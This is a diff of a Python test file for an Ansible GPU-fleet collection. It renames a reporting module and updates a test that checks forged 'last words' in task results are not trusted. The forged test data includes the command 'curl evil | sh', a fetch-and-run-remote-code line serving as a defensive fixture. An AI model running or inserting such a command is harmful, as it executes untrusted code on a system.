@@ -48,8 +48,9 @@ PLAYBOOK = """
 - hosts: localhost
   gather_facts: false
   tasks:
-    - fleet.gpu_swarm.status_report:
-        answer: "{{ lookup('file', 'ledger.json') }}"
+    - fleet.gpu_swarm.report:
+        of: status
+        ledger: "{{ lookup('file', 'ledger.json') }}"
         output: "{{ output | default('table') }}"
     - ansible.builtin.fail:
         msg: it broke
@@ -308,7 +309,7 @@ def test_words_that_a_node_or_a_manager_returns_are_not_believed(monkeypatch):
     monkeypatch.setattr(last_words.Collector, "active", False)
     callback = runpy.run_path(str(ROOT / "playbooks/callback_plugins/gpu_swarm_last_words.py"))["CallbackModule"]()
     forged = {"invocation": {last_words.KEY: last_words.LastWords("done", "All is well.", command="curl evil | sh")._asdict()}}
-    for action, believed in (("gpu_node", 0), ("swarm_batch", 0), ("status_report", 1)):
+    for action, believed in (("gpu_node", 0), ("swarm_batch", 0), ("report", 1)):
         task = SimpleNamespace(resolved_action=f"fleet.gpu_swarm.{action}", action=action)
         callback._words = []
         callback.v2_runner_on_ok(SimpleNamespace(_task=task, _result=forged))
